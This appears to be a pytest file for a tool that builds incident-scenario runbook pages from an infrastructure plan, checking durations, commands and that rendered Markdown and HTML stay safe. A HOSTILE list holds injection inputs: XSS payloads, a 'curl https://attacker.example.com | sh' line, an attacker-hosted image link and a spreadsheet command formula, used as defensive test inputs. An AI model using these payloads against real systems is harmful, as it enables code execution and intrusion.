"""Scenarios follow from a plan, by its names; each step can be checked, and the shipped page is current."""

import importlib
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from planner.plan import Plan
from planner.printable import printable
from reports.scenarios.command import main, scenarios, whole_page
from reports.scenarios.durations import WAITERS, deployment
from reports.scenarios.html import html_index, html_page
from reports.scenarios.names import Names
from reports.scenarios.page import index, page
from reports.scenarios.scenario import Duration, PersonStep, Scenario, Step
from resources.resource import Resource
from tests.support.planner.command import platform
from tests.support.planner.plans import STACKS, built
from tests.support.reports.pages import Page

PARSER: Any = importlib.import_module("markdown_it").MarkdownIt("commonmark").enable(["table", "strikethrough"])
ROOT = Path(__file__).parents[3]
WRITTEN = "Decide it, and write down why."
"""The step whose only trace is a page of the incident."""
PROGRAMS = ("aws", "gh", "kubectl", "make", "pulumi", "git", ".venv/bin/python")


def of(stack: str) -> dict[str, Scenario]:
    return {each.name: each for each in scenarios(built(stack))}


def reduced(plan: Plan, *types: str, outputs: tuple[str, ...] = ()) -> set[str]:
    """The names of the scenarios of a plan without resources whose type begins with one of `types`."""
    kept: tuple[Resource, ...] = tuple(each for each in plan.resources if not each.type.startswith(types))
    known = {name: value for name, value in plan.outputs.items() if name not in outputs}
    return {each.name for each in scenarios(replace(plan, resources=kept, outputs=known))}


def test_the_page_of_prod_is_current() -> None:
    assert (ROOT / "docs" / "scenarios.md").read_text(encoding="utf-8") == whole_page(built("prod"))


@pytest.mark.parametrize("stack", STACKS)
def test_each_step_says_how_to_check_it(stack: str) -> None:
    for scenario in of(stack).values():
        assert scenario.steps
        assert scenario.told
        assert scenario.duration.least == sum(each.takes.least for each in scenario.steps)
        assert scenario.duration.most == sum(each.takes.most for each in scenario.steps)
        for step in scenario.steps:
            assert step.takes.source
            assert 0 <= step.takes.least <= step.takes.most
            assert step.check, (scenario.name, step.what)
            if isinstance(step, PersonStep):
                assert step.who
                assert step.how
                assert step.checked_by or step.what == WRITTEN, step.what


def test_limits_of_waiters_are_those_of_botocore() -> None:
    session: Any = importlib.import_module("botocore.session").get_session()
    names: Any = importlib.import_module("botocore").xform_name
    for service, waiter, minutes in WAITERS.values():
        model = session.get_waiter_model(service)
        [found] = [model.get_waiter(name) for name in model.waiter_names if names(name) == waiter]
        assert found.delay * found.max_attempts == minutes * 60, waiter


LIMITS = {
    "operations/rotate/logins.py": {"_JOB_MINUTES": 20, "_USER_MINUTES": 15},
    "operations/rotate/workloads.py": {"_SYNC_MINUTES": 10, "_ROLLOUT_MINUTES": 20},
    "operations/restore/online.py": {"_DEADLINE_SECONDS": 12 * 3600},
    "operations/failover/plan.py": {"_DEADLINE_SECONDS": 15 * 60},
}
"""The constants of our programs that `reports.scenarios.durations` speaks of, by their file."""


def test_limits_of_our_programs_are_their_constants() -> None:
    for path, constants in LIMITS.items():
        module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
        assert {name: getattr(module, name) for name in constants} == constants


def test_a_deployment_takes_as_long_as_its_longest_part() -> None:
    assert deployment("cluster", "nodes", "database").most == 60
    assert deployment("database", "machine").most == 30
    assert "database 30" in deployment("database", "machine").source


@pytest.mark.parametrize("stack", STACKS)
def test_each_scenario_has_the_stack_s_own_names(stack: str) -> None:
    plan = built(stack)
    text = "\n".join(page(each) for each in scenarios(plan))
    shown = [line.removeprefix("$ ") for line in text.splitlines() if line.startswith("$ ")]
    assert {command.split()[0] for command in shown} <= {*PROGRAMS}
    region = re.findall(r"--region ([a-z0-9-]+)", text)
    assert set(region) <= {plan.estimate.region, "us-east-1", Names(plan).second_region}
    assert "[unknown]" not in text
    assert "[secret]" not in text
    others = [each for each in STACKS if each != stack]
    assert not [each for each in others if f"--stack {each} " in text or f"STACK={each}\n" in text]


def test_quotas_and_prerequisites_are_steps_of_people() -> None:
    plan = built("prod")
    people = of("prod")["provision"].people
    told = "\n".join(each.what for each in people)
    assert all(f"{quota.name} of {quota.service}" in told for quota in plan.quotas)
    assert all(each.what in told for each in plan.prerequisites)


@pytest.mark.parametrize(
    ("types", "outputs", "gone"),
    [
        (("aws:eks/nodeGroup:",), (), {"gpu-node-failure"}),
        (("aws:cognito/",), ("userPoolId",), {"rotate-cognito"}),
        (("aws:kms/key:",), (), {"rotate-kms"}),
        (("kubernetes:argoproj.io/",), (), {"deploy-model", "roll-back-model"}),
        ((), ("breakGlassRoleArn",), {"break-glass"}),
        ((), ("backupCopyVaultArn",), {"region-loss"}),
        ((), ("backupStores",), {"restore"}),
        ((), ("featureServerAddress",), {"rebuild-online-store"}),
        ((), ("clusterName",), {"cluster-upgrade"}),
        (("aws:secretsmanager/secret:",), (), {"rotate-postgresql", "rotate-cache"}),
    ],
)
def test_a_scenario_needs_what_it_is_about(types: tuple[str, ...], outputs: tuple[str, ...], gone: set[str]) -> None:
    plan = built("prod")
    everything = {each.name for each in scenarios(plan)}
    none = ("none:",)
    assert everything - reduced(plan, *(types or none), outputs=outputs) == gone


def test_a_database_without_a_standby_is_for_a_person() -> None:
    plan = built("prod")
    single = [
        Resource(each.urn, each.type, each.name, inputs={**each.inputs, "multiAz": False})
        if each.type == "aws:rds/instance:Instance"
        else each
        for each in plan.resources
    ]
    [zone] = [each for each in scenarios(replace(plan, resources=tuple(single))) if each.name == "zone-loss"]
    assert any("has no standby" in each.what for each in zone.people)


def test_the_job_that_rebuilds_the_online_store_is_made_of_the_cron_job() -> None:
    plan = built("prod")
    [job] = [each for each in plan.resources if each.name.endswith("materialization")]
    command = job.inputs["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["command"]
    assert "materialize-incremental" in command[2]
    assert job.inputs["metadata"] == {"name": "feature-materialization", "namespace": "feast"}


@pytest.mark.slow
def test_the_command_writes_a_page_for_each_scenario(tmp_path: Path) -> None:
    root = platform(tmp_path)
    assert main(["test", "--root", str(root), "--today", "2026-11-21"]) == 0
    folder = root / "build" / "test" / "scenarios"
    index = (folder / "index.md").read_text(encoding="utf-8")
    names = {path.name for path in folder.glob("*.md")} - {"index.md"}
    assert names
    assert {*re.findall(r"\]\(([a-z-]+\.md)\)", index)} == names
    pages = {path.name for path in folder.glob("*.html")} - {"index.html"}
    assert {name.replace(".md", ".html") for name in names} == pages
    assert {*re.findall(r'href="([a-z-]+\.html)"', (folder / "index.html").read_text(encoding="utf-8"))} == pages


@pytest.mark.parametrize("stack", STACKS)
def test_html_has_what_markdown_has(stack: str) -> None:
    for scenario in scenarios(built(stack)):
        shown = Page(html_page(scenario))
        assert len(shown.texts("ol")) == 1
        assert sum(text.startswith("Check: ") for text in shown.texts("p")) == len(scenario.steps)
        commands = [line for block in shown.raw("pre") for line in block.strip().splitlines()]
        assert commands == [line for line in page(scenario).splitlines() if line.startswith("$ ")]
        assert f"Duration: {scenario.duration.sentence}.".replace("`", "") in shown.texts("main")[0]
        for step in scenario.steps:
            assert f"Takes {step.takes.sentence}.".replace("`", "") in shown.texts("p")
        assert len(shown.texts("strong")) == len(scenario.people)


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1))",
    "![image](https://attacker.example.com/x.png)",
    "a | b | c",
    "# heading",
    "*bold* __bold__ ~gone~",
    "a\n\n# heading\n\n- item",
    "a\n```\n$ curl https://attacker.example.com | sh",
    "`code",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe",
    "a\u2028b",
    "&lt;b&gt;",
    "\\`x",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_has_the_same_elements_with_any_text(text: str) -> None:
    """A parser of CommonMark with GitHub's tables finds the elements that plain text gives, and the text itself."""

    def rendered(given: str) -> Page:
        step = Step(
            given, (f"aws sts get-caller-identity {given}",), given, by=given, takes=Duration(1, 2, given, given)
        )
        person = PersonStep(given, given, given, given, (given,), takes=Duration(1, 2, given))
        made = Scenario("s", given, given, [given], [step, person], [given])
        markdown = f"{page(made)}\n\n{index('prod', [made], ['s.md'])}"
        return Page(PARSER.render(markdown))

    plain, hostile = rendered("plain"), rendered(text)
    assert [tag for tag, _, _ in hostile.elements] == [tag for tag, _, _ in plain.elements]
    shown = " ".join(printable(re.sub(r"[\n\u2028]", " ", text)).split())
    assert any(shown in " ".join(each.split()) for each in hostile.texts("h1")), hostile.texts("h1")


@pytest.mark.parametrize("text", HOSTILE)
def test_html_has_the_same_elements_with_any_text(text: str) -> None:
    def rendered(given: str) -> Page:
        step = Step(given, (f"aws sts get-caller-identity {given}",), given, by=given, takes=Duration(1, 2, given))
        made = Scenario("s", given, given, [given], [step], [given])
        return Page(html_page(made) + html_index(given, [made]))

    plain, hostile = rendered("plain"), rendered(text)
    assert [tag for tag, _, _ in hostile.elements] == [tag for tag, _, _ in plain.elements]
    # A line that begins with the prompt is a command: a text makes none.
    assert [block.count("\n$ ") for block in hostile.raw("pre")] == [block.count("\n$ ") for block in plain.raw("pre")]


def test_html_runs_and_loads_nothing() -> None:
    evil = replace(of("prod")["zone-loss"], title="<script>alert(1)</script>", when="`<img src=x>` is <b>lost</b>")
    for text in (html_page(evil), html_index("prod", [evil])):
        shown = Page(text)
        assert not [tag for tag, _, _ in shown.elements if tag in ("script", "img", "b", "link")]
        assert "<img src=x>" in shown.texts("code")
        assert shown.policy["default-src"] == "'none'"
